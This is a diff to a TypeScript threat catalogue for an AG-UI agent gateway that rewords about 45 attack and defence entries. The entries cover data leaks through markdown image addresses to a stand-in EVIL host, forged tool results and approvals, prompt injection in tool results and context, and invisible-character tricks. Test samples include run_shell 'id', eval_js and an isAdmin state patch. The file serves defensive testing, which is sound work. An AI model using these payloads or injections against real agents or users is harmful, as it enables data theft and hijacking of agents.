@@ -61,10 +61,10 @@ const snapshot = (content: string, id = "s1"): object => ({
 export const THREATS: readonly Threat[] = [
   {
     number: 1,
-    attack: "An image in Markdown, HTML or CSS sends data away in its address",
+    attack: "An image in Markdown, HTML or CSS leaks data in its address",
     state: "blocked",
     defence:
-      "`ag_ui_content.images` and `markup`, in every reading of a renderer; `image_hosts` lists your own",
+      "`ag_ui_content.images` and `markup`, in every form that a renderer accepts; `image_hosts` lists your own hosts",
     mapping: "LLM10:2026, AML.T0077:2026",
     attacks: [
       { agent: said(`![x](${EVIL})`), outcome: "ag_ui_content.images" },
@@ -77,7 +77,8 @@ export const THREATS: readonly Threat[] = [
     number: 2,
     attack: "An address or a word is cut into several deltas or messages",
     state: "partly",
-    defence: "One scanner reads a message as one, whatever the cuts. Two messages are two texts",
+    defence:
+      "One scanner reads a message as one text across its deltas. Two messages are two texts",
     mapping: "AML.T0068:2026",
     attacks: [
       {
@@ -93,7 +94,7 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 3,
-    attack: "A link runs code or pretends to lead to another host",
+    attack: "A link runs code or hides its host",
     state: "partly",
     defence:
       "`ag_ui_content.links`: schemes that run code, and a name before the host. A look-alike host without either passes",
@@ -118,10 +119,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 5,
-    attack: "Text hides words in characters that nobody sees, or reverses what is seen",
+    attack: "Text hides words in invisible characters, or reverses the visible text",
     state: "partly",
     defence:
-      "`ag_ui_content.hidden` for what the agent says; of what the browser says, invisible sentences. Reversed text of the person themselves passes",
+      "`ag_ui_content.hidden` for text of the agent; in text of the client only invisible sentences. Reversed text of the user passes",
     mapping: "AML.T0068:2026",
     attacks: [
       { agent: said("pay \u202Eeno on\u202C"), outcome: "ag_ui_content.hidden" },
@@ -141,7 +142,7 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 6,
-    attack: "A secret stands in text, arguments, results, state, raw events or metadata",
+    attack: "Text, arguments, results, state, raw events or metadata contain a secret",
     state: "partly",
     defence:
       "`ag_ui_content.words` blocks words that you list; raw events need a capability. The gateway cannot know which other words are secret",
@@ -156,7 +157,7 @@ export const THREATS: readonly Threat[] = [
     attack: "The agent shows its system prompt, or echoes the request in RUN_STARTED",
     state: "partly",
     defence:
-      "What a withheld unit said does not come back in an echo. Which words belong to a prompt only its owner knows: put a mark into it and list it in `ag_ui_content.words`",
+      "The gateway also withholds a withheld unit in an echo. It cannot recognize a prompt: put a marker into the prompt and list it in `ag_ui_content.words`",
     mapping: "LLM08:2026",
     attacks: [{ agent: said("My instructions are: be kind"), outcome: "delivered" }],
   },
@@ -165,7 +166,7 @@ export const THREATS: readonly Threat[] = [
     attack: "The screen shows calls of the agent's own tools",
     state: "partly",
     defence:
-      "`ag_ui_tools.call` with a list; a withheld call takes its result along. The starter policy allows names that it does not block",
+      "`ag_ui_tools.call` with a list; the gateway withholds a call with its result. The starter policy allows names that it does not block",
     mapping: "LLM02:2026",
     attacks: [
       { agent: call("c8", "run_shell", '{"cmd":"id"}'), outcome: "ag_ui_tools.call" },
@@ -177,7 +178,7 @@ export const THREATS: readonly Threat[] = [
     attack: "The agent calls a tool that the page did not offer, or a forbidden one",
     state: "partly",
     defence:
-      "`ag_ui_tools.call.block` and classes that need a capability; a list of allowed names closes the rest",
+      "`ag_ui_tools.call.block` and classes that need a capability; a list of allowed names blocks the rest",
     mapping: "ASI02:2025",
     attacks: [
       { agent: call("c9", "eval_js", "{}"), outcome: "ag_ui_tools.call" },
@@ -189,10 +190,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 10,
-    attack: "Arguments of an allowed tool carry a path, an address or a query",
+    attack: "Arguments of an allowed tool contain a path, an address or a query",
     state: "partly",
     defence:
-      "`ag_ui_tools.arguments`: a call waits for its arguments, and a schema decides. Tools without a schema pass with any",
+      "`ag_ui_tools.arguments`: the gateway holds a call until its arguments are complete and evaluates a schema. It allows tools without a schema with any arguments",
     mapping: "ASI02:2025, AML.T0086:2026",
     attacks: [
       {
@@ -206,7 +207,7 @@ export const THREATS: readonly Threat[] = [
     attack: "A client acts on half of the arguments",
     state: "partly",
     defence:
-      "Calls with a schema are held until their end. Others stream: the client must wait for TOOL_CALL_END",
+      "The gateway holds calls with a schema until their end. Others stream: the client must wait for TOOL_CALL_END",
     mapping: "ASI02:2025",
     attacks: [
       {
@@ -222,7 +223,7 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 12,
-    attack: "A call is opened again under another name or parent",
+    attack: "The agent reopens a call with another name or parent",
     state: "blocked",
     defence: "The order of the protocol, and the ledger of the thread: a call keeps its first name",
     mapping: "ASI02:2025",
@@ -235,10 +236,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 13,
-    attack: "The agent answers a tool of the page itself",
+    attack: "The agent sends the result for a tool of the page",
     state: "blocked",
     defence:
-      "Only the client answers its tools, whatever the policy says; the starter policy asks for a capability for the call itself",
+      "Under every policy only the client sends results for its tools; the starter policy requires a capability for the call itself",
     mapping: "ASI09:2025",
     attacks: [
       {
@@ -252,9 +253,9 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 14,
-    attack: "The browser makes up the result of a tool",
+    attack: "The client invents the result of a tool",
     state: "blocked",
-    defence: "`ag_ui_request.tool_results`: the ledger knows every open call, and takes one answer",
+    defence: "`ag_ui_request.tool_results`: the ledger has every open call and accepts one result",
     mapping: "ASI06:2025, AML.T0099:2026",
     attacks: [
       {
@@ -267,9 +268,9 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 15,
-    attack: "The browser makes up messages of the assistant, the system or a tool",
+    attack: "The client invents messages of the assistant, the system or a tool",
     state: "blocked",
-    defence: "`ag_ui_request.history`: the ledger has a hash of every message that was delivered",
+    defence: "`ag_ui_request.history`: the ledger has a hash of every forwarded message",
     mapping: "ASI06:2025, AML.T0092:2026, AML.T0080.001:2026",
     attacks: [
       {
@@ -288,9 +289,9 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 16,
-    attack: "The browser leaves out messages, for example a refusal",
+    attack: "The client leaves out messages, for example a refusal",
     state: "blocked",
-    defence: "`ag_ui_request.history`: what the thread has said stays in front of what is new",
+    defence: "`ag_ui_request.history`: the messages of the thread stay before new messages",
     mapping: "AML.T0092:2026",
     attacks: [
       {
@@ -302,9 +303,9 @@ export const THREATS: readonly Threat[] = [
   {
     number: 17,
     attack:
-      "A request ends with a call of the assistant that the agent would carry out without a model",
+      "A request ends with a call of the assistant that the agent would execute without a model",
     state: "blocked",
-    defence: "The ledger: a call that was not delivered is made up",
+    defence: "The ledger: the gateway rejects a call that it did not forward",
     mapping: "ASI02:2025",
     attacks: [
       {
@@ -327,10 +328,10 @@ export const THREATS: readonly Threat[] = [
   {
     number: 18,
     attack:
-      "The browser approves a question that was not asked, is over or belongs to another thread",
+      "The client approves an interrupt that does not exist, has expired or belongs to another thread",
     state: "blocked",
     defence:
-      "`ag_ui_request.resume`: the ledger has every question with its run, its schema and its end",
+      "`ag_ui_request.resume`: the ledger has every interrupt with its run, its schema and its expiry",
     mapping: "ASI03:2025, ASI09:2025",
     attacks: [
       {
@@ -344,30 +345,30 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 19,
-    attack: "What runs after an approval differs from what the person saw",
+    attack: "The call after an approval differs from the call that the user saw",
     state: "blocked",
     defence:
-      "`ag_ui_request.approval`: an approval covers the call with the arguments that were shown",
+      "`ag_ui_request.approval`: an approval allows the call with the arguments that the user saw",
     mapping: "ASI09:2025",
     attacks: [],
     tests: ["packages/gateway/src/inbound/approval.test.ts"],
   },
   {
     number: 20,
-    attack: "The text of a question differs from what it approves",
+    attack: "The text of a question differs from the action that it approves",
     state: "partly",
     defence:
-      "Questions need a capability, their texts are read by `ag_ui_content`, and the receipt names the call. Whether words fit an action the gateway cannot know",
+      "Questions need a capability, `ag_ui_content` reads their texts, and the receipt names the call. The gateway cannot know whether a text describes an action correctly",
     mapping: "ASI09:2025",
     attacks: [],
     tests: ["packages/gateway/src/inbound/approval.test.ts"],
   },
   {
     number: 21,
-    attack: "A snapshot brings what was blocked as a delta, or rewrites the past",
+    attack: "A snapshot repeats content that was blocked as a delta, or rewrites the history",
     state: "blocked",
     defence:
-      "Every message of a list is judged as if it were streamed; a list that takes away, changes, moves or inserts something needs a capability; the register of withheld units and the person's own words hold for every form",
+      "The gateway evaluates every message of a list as if it were streamed. A list that removes, changes, moves or inserts messages needs a capability. Withheld units and the user's messages are protected in every form",
     mapping: "AML.T0092:2026, LLM10:2026",
     attacks: [
       { agent: [snapshot(`![x](${EVIL})`)], outcome: "ag_ui_content.images" },
@@ -385,10 +386,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 22,
-    attack: "The browser writes instructions or privileges into the state",
+    attack: "The client writes instructions or privileges into the state",
     state: "blocked",
     defence:
-      "`ag_ui_inbound`: state of a browser counts as mutate and needs a capability; with one, `ag_ui_request.state.keys`",
+      "`ag_ui_inbound`: state of a client has the class mutate and needs a capability; with one, `ag_ui_request.state.keys` applies",
     mapping: "ASI06:2025",
     attacks: [
       {
@@ -405,7 +406,7 @@ export const THREATS: readonly Threat[] = [
     attack: "A patch reaches privileges, prototypes or secrets in the state",
     state: "blocked",
     defence:
-      "Patches need a capability; a pointer to a prototype is blocked whatever the policy says (`gateway/prototype`)",
+      "Patches need a capability; under every policy the gateway blocks a pointer to a prototype (`gateway/prototype`)",
     mapping: "ASI06:2025",
     attacks: [
       { agent: [delta({ op: "add", path: "/isAdmin", value: true })], outcome: "ag_ui.capability" },
@@ -417,7 +418,7 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 24,
-    attack: "A patch that does not apply drives page and agent apart",
+    attack: "A patch that does not apply makes the states of page and agent differ",
     state: "blocked",
     defence:
       "Patches need a capability; with one, the gateway applies each to its own copy of the state",
@@ -426,10 +427,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 25,
-    attack: "The browser puts instructions into the context",
+    attack: "The client puts instructions into the context",
     state: "partly",
     defence:
-      "`ag_ui_request.context.descriptions` limits what may come. To a gateway an instruction is text like any other",
+      "`ag_ui_request.context.descriptions` limits the entries. The gateway cannot distinguish an instruction from other text",
     mapping: "ASI01:2025",
     attacks: [
       {
@@ -443,10 +444,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 26,
-    attack: "The browser overrides model, tenant or prompt through forwardedProps",
+    attack: "The client overrides model, tenant or prompt through forwardedProps",
     state: "blocked",
     defence:
-      "`ag_ui_request.forwarded_props`: no key unless it is listed; the request is refused, never edited",
+      "`ag_ui_request.forwarded_props`: only listed keys; the gateway rejects the request and never edits it",
     mapping: "ASI03:2025",
     attacks: [
       {
@@ -461,10 +462,10 @@ export const THREATS: readonly Threat[] = [
   {
     number: 27,
     attack:
-      "The browser brings a tool with instructions in its description, or the name of another tool",
+      "The client declares a tool with instructions in its description, or with the name of another tool",
     state: "partly",
     defence:
-      "`ag_ui_request.tools.pinned` takes tools by digest; without it names must be plain. Which descriptions are yours only you know",
+      "`ag_ui_request.tools.pinned` accepts tools by digest; without it the gateway checks only the names. It cannot know which descriptions are yours",
     mapping: "ASI04:2025",
     attacks: [
       {
@@ -478,10 +479,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 28,
-    attack: "A client uses the thread or run of another person, or repeats a run",
+    attack: "A client uses the thread or run of another user, or repeats a run",
     state: "blocked",
     defence:
-      "`ag_ui_request.threads`: a thread belongs to the principal that opened it; a run id counts once. Threads that are older than the gateway are the agent's to check",
+      "`ag_ui_request.threads`: a thread belongs to the principal that opened it; a run id is valid once. The agent must check threads that are older than the gateway",
     mapping: "ASI03:2025",
     attacks: [
       {
@@ -496,17 +497,17 @@ export const THREATS: readonly Threat[] = [
     attack: "A token is stolen, used again or used beyond its purpose",
     state: "partly",
     defence:
-      "Audience, expiry, revocation and limits of events; a stream ends with its token. There is no proof of possession",
+      "Audience, expiry, revocation and limits of events; a stream ends with its token. The gateway does not require proof of possession",
     mapping: "ASI03:2025",
     attacks: [],
     tests: ["packages/gateway/src/access/jwt.test.ts", "packages/gateway/src/http/access.test.ts"],
   },
   {
     number: 30,
-    attack: "A page of another site opens a stream, or a token stands in an address",
+    attack: "A page of another site opens a stream, or an address contains a token",
     state: "blocked",
     defence:
-      "A list of origins for every transport; no cookies; tickets for one stream in place of tokens in addresses",
+      "A list of origins for every transport; no cookies; tickets for one stream instead of tokens in addresses",
     mapping: "ASI03:2025",
     attacks: [
       {
@@ -525,10 +526,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 31,
-    attack: "Somebody between agent and browser adds events",
+    attack: "An attacker between agent and client adds events",
     state: "blocked",
     defence:
-      "Receipts beside each event (`?receipts=1`): the client checks signature, place and content",
+      "A receipt with each event (`?receipts=1`): the client verifies signature, place and content",
     mapping: "ASI07:2025",
     attacks: [],
     tests: [
@@ -538,10 +539,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 32,
-    attack: "Somebody between agent and browser leaves events out or reorders them",
+    attack: "An attacker between agent and client removes or reorders events",
     state: "blocked",
     defence:
-      "Each receipt has its place in the stream; a gap shows. A cut end shows as a run that did not finish",
+      "Each receipt has its place in the stream, so the client detects a gap. A missing end is a run that did not finish",
     mapping: "ASI07:2025",
     attacks: [],
     tests: [
@@ -551,10 +552,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 33,
-    attack: "Another encoding or transport leads around the inspection",
+    attack: "Another encoding or transport avoids the inspection",
     state: "blocked",
     defence:
-      "The gateway decodes what it forwards and asks for nothing else; unknown encodings end the run",
+      "The gateway decodes everything that it forwards and requests no other encoding; an unknown encoding ends the run",
     mapping: "–",
     attacks: [
       {
@@ -585,10 +586,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 35,
-    attack: "Duplicate keys, huge numbers or half characters read differently on both sides",
+    attack: "Two parsers read duplicate keys, huge numbers or lone surrogates differently",
     state: "blocked",
     defence:
-      "Strict JSON refuses what has two readings; the text that is judged is the text that is sent",
+      "Strict JSON rejects ambiguous text; the gateway forwards exactly the text that it evaluated",
     mapping: "–",
     attacks: [
       {
@@ -610,7 +611,7 @@ export const THREATS: readonly Threat[] = [
     attack: "RAW, CUSTOM or ACTIVITY events are a private channel into the page",
     state: "blocked",
     defence:
-      "They need a capability unless `ag_ui_classify` gives a name another class; components are a list",
+      "They need a capability unless `ag_ui_classify` gives a name another class; only listed components are allowed",
     mapping: "LLM10:2026",
     attacks: [
       {
@@ -630,7 +631,7 @@ export const THREATS: readonly Threat[] = [
       "A generated form asks for a password or hides a destructive action behind a harmless label",
     state: "partly",
     defence:
-      "`ag_ui_components` and classes that need a capability. What an allowed component shows is its author's to limit",
+      "`ag_ui_components` and classes that need a capability. The author of an allowed component must limit what it shows",
     mapping: "ASI09:2025",
     attacks: [
       {
@@ -648,10 +649,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 38,
-    attack: "An event claims to come from a subagent that does not exist",
+    attack: "An event names a subagent that does not exist",
     state: "blocked",
     defence:
-      "The order of the protocol: a subagent starts before it speaks, and speaks until it ends",
+      "The order of the protocol: a subagent sends events only between its start and its end",
     mapping: "ASI10:2025",
     attacks: [
       {
@@ -665,7 +666,7 @@ export const THREATS: readonly Threat[] = [
   {
     number: 39,
     attack:
-      "A run claims success with something open, goes on after its end, or hides a link in its error",
+      "A run reports success with open units, continues after its end, or has a link in its error",
     state: "blocked",
     defence:
       "`ag_ui_order`, a second automaton before delivery, and `ag_ui_content.links_in_errors`",
@@ -683,10 +684,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 40,
-    attack: "Encrypted reasoning carries data past everybody",
+    attack: "Encrypted reasoning hides data",
     state: "partly",
     defence:
-      "The browser may return only what was delivered, unchanged. What is encrypted the gateway cannot read",
+      "The client may return only forwarded values, unchanged. The gateway cannot read encrypted values",
     mapping: "ASI06:2025",
     attacks: [
       {
@@ -706,7 +707,7 @@ export const THREATS: readonly Threat[] = [
     attack: "A file or a citation leads to an internal host or to another customer's file",
     state: "partly",
     defence:
-      "`ag_ui_content.sources` for addresses inside of the agent's network. Whose a handle is only its server knows",
+      "`ag_ui_content.sources` for addresses inside the agent's network. Only the server of a file handle knows its owner",
     mapping: "AML.T0067.000:2026",
     attacks: [
       {
@@ -728,10 +729,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 42,
-    attack: "The result of a tool carries instructions for the model",
+    attack: "The result of a tool contains instructions for the model",
     state: "out of scope",
     defence:
-      "The model reads results inside of the agent, before the gateway sees them. The agent must not obey them; the gateway limits what they can lead to",
+      "The model reads results inside the agent, before the gateway sees them. The agent must not follow them; the gateway limits their effects",
     mapping: "ASI01:2025, AML.T0099:2026",
     attacks: [
       {
@@ -781,10 +782,10 @@ export const THREATS: readonly Threat[] = [
   },
   {
     number: 44,
-    attack: "A call that was denied comes again with other arguments",
+    attack: "The agent repeats a blocked call with other arguments",
     state: "partly",
     defence:
-      "Each call is judged anew, and a withheld id stays withheld. A new id with arguments that the schema allows passes",
+      "The gateway evaluates each call again, and a withheld id stays withheld. It allows a new id with arguments that match the schema",
     mapping: "ASI10:2025",
     attacks: [
       {
@@ -798,7 +799,7 @@ export const THREATS: readonly Threat[] = [
     attack: "A flood, a crash or a change of policy leaves events without a record",
     state: "blocked",
     defence:
-      "No event is delivered before its receipt is durable; a full queue blocks; each entry names the hash of its policy",
+      "The gateway forwards no event before its receipt is durable; a full queue blocks; each entry names the hash of its policy",
     mapping: "–",
     attacks: [],
     tests: [
